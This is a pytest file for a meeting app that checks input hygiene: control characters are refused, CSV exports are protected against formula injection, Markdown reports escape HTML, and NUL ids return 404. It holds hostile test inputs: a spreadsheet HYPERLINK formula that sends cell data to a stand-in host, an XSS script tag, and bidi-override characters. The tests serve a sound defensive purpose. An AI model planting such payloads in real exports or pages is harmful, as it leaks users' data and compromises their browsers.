"""Text at the edge: no control characters in, formulas inert in CSV, HTML escaped in Markdown,
and an id no meeting could have is a 404 on both backends."""

from __future__ import annotations

import csv
import io
import uuid
import warnings
from collections.abc import Iterator
from pathlib import Path

import pytest
from docx import Document

from podium.meeting.commands import (
    EndSpeech,
    GiveFloor,
    OpenMeeting,
    RequestFloor,
)
from podium.meeting.participants import ParticipantFields
from podium.meeting.words import CHAIR, Actor
from podium.meetings import MeetingService
from podium.store import open_store
from podium.web.app import create_app
from tests.conftest import PANEL_2024
from tests.support.schemas import drop_schema

with warnings.catch_warnings():
    warnings.simplefilter("ignore")
    from starlette.testclient import TestClient

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ADMIN = "admin-token-hygiene"


@pytest.fixture
def app(tmp_path: Path) -> Iterator[TestClient]:
    with TestClient(create_app(str(tmp_path / "data"), admin_token=ADMIN)) as client:
        yield client


def _meeting(client: TestClient, note: str | None = None) -> tuple[str, dict[str, str]]:
    text = note if note is not None else PANEL_2024.read_text(encoding="utf-8")
    created = client.post(
        "/api/meetings",
        content=text.encode(),
        headers={"Authorization": f"Bearer {ADMIN}", "Content-Type": "text/markdown"},
    )
    assert created.status_code == 201, created.text
    body = created.json()
    tokens = {role: link.rsplit("/", 1)[-1] for role, link in body["links"].items()}
    return body["id"], tokens


def _bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.mark.parametrize("bad", ["\v", "\x00", "\x1b[31m", "\x85", "\ufffe", "\u202e", "\u2067"])
def test_a_name_with_a_control_character_is_refused_where_it_enters(
    app: TestClient, bad: str
) -> None:
    meeting, tokens = _meeting(app)
    headers = _bearer(tokens["secretariat"])
    as_json = app.post(
        f"/api/meetings/{meeting}/participants", json=[{"name": f"Ms. A{bad}B"}], headers=headers
    )
    assert as_json.status_code == 422
    assert "control character" in as_json.json()["detail"]
    as_csv = app.post(
        f"/api/meetings/{meeting}/participants",
        content=f"name,delegation\nMs. A,Fi{bad}ji\n".encode(),
        headers={**headers, "Content-Type": "text/csv"},
    )
    assert as_csv.status_code == 422
    detail = as_csv.json()["detail"]
    assert detail.startswith("Line 2, column delegation: ") and "control character" in detail
    note = app.post(
        f"/api/meetings/{meeting}/commands",
        json={"type": "tag_intervention", "intervention_id": 1, "note": f"a{bad}b"},
        headers=_bearer(tokens["chair"]),
    )
    assert note.status_code == 422 and "control character" in note.json()["detail"]


def test_a_csv_with_old_mac_line_ends_or_a_huge_field_is_a_sentence(app: TestClient) -> None:
    meeting, tokens = _meeting(app)
    headers = {**_bearer(tokens["secretariat"]), "Content-Type": "text/csv"}
    mac = app.post(
        f"/api/meetings/{meeting}/participants",
        content=b"name,delegation\rMs. A,Fiji\rMr. B,Chile\r",
        headers=headers,
    )
    assert mac.status_code == 201, mac.text
    assert [p["delegation"] for p in mac.json()["participants"]] == ["Fiji", "Chile"]
    huge = app.post(
        f"/api/meetings/{meeting}/participants",
        content=b'name\n"' + b"x" * 200_000 + b'"\n',
        headers=headers,
    )
    assert huge.status_code == 422
    assert huge.json()["detail"] == "Line 2: a value is longer than 131,072 characters."


def test_a_note_with_control_characters_makes_a_meeting_whose_word_report_is_written(
    app: TestClient,
) -> None:
    text = PANEL_2024.read_text(encoding="utf-8").replace("Background", "Back\vground\x00", 1)
    meeting, tokens = _meeting(app, text)
    plan = app.get(f"/api/meetings/{meeting}").json()
    assert "\x00" not in str(plan) and "\v" not in str(plan)
    report = app.get(f"/m/{meeting}/report.docx", headers=_bearer(tokens["secretariat"]))
    assert report.status_code == 200
    Document(io.BytesIO(report.content))


def _spoken_meeting(tmp_path: Path, name: str) -> tuple[TestClient, str, str]:
    store = open_store(tmp_path / "data")
    service = MeetingService(store)
    from podium.conceptnote.reader import read_note

    created = service.create(read_note(PANEL_2024))
    service.execute(created.id, OpenMeeting(), CHAIR)
    person, _token = service.register(created.id, [ParticipantFields(name=name)], CHAIR)[0]
    service.execute(created.id, RequestFloor(), Actor("participant", person.id))
    service.execute(created.id, GiveFloor(), CHAIR)
    service.execute(created.id, EndSpeech(), CHAIR)
    store.close()
    client = TestClient(create_app(str(tmp_path / "data")))
    return client, created.id, created.tokens["secretariat"]


def test_the_csv_report_never_holds_a_formula(tmp_path: Path) -> None:
    client, meeting, token = _spoken_meeting(tmp_path, FORMULA)
    with client:
        response = client.get(f"/m/{meeting}/report.csv", headers=_bearer(token))
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert rows[0]["speaker"] == "'" + FORMULA
    every_cell = [cell for row in rows for cell in row.values() if cell]
    assert not any(cell.startswith(("=", "+", "@")) for cell in every_cell)


def test_the_markdown_report_shows_html_as_text(tmp_path: Path) -> None:
    client, meeting, token = _spoken_meeting(tmp_path, "<script>alert(1)</script>")
    with client:
        response = client.get(f"/m/{meeting}/report.md", headers=_bearer(token))
    assert response.status_code == 200
    assert "<script>" not in response.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in response.text


@pytest.mark.postgres
def test_an_id_with_a_nul_is_a_404_on_postgresql(postgres_url: str) -> None:
    schema = f"podium_nul_{uuid.uuid4().hex[:10]}"
    store = open_store(postgres_url, schema=schema)
    try:
        with TestClient(create_app(store)) as client:
            for path in (
                "/api/meetings/%00",
                "/api/meetings/%00/state",
                "/api/meetings/%00/feed",
                "/m/%00",
                "/m/%00/chair",
            ):
                assert client.get(path).status_code == 404, path
            command = client.post("/api/meetings/%00/commands", json={"type": "open_meeting"})
            assert command.status_code == 404
    finally:
        drop_schema(postgres_url, schema)


def test_a_right_to_left_name_keeps_its_direction_marks(app: TestClient) -> None:
    """U+200F (the right-to-left mark) belongs in Arabic names; only overrides are refused."""
    meeting, tokens = _meeting(app)
    answer = app.post(
        f"/api/meetings/{meeting}/participants",
        json=[{"name": "السيد أحمد\u200f", "delegation": "مصر"}],
        headers=_bearer(tokens["secretariat"]),
    )
    assert answer.status_code == 201, answer.text
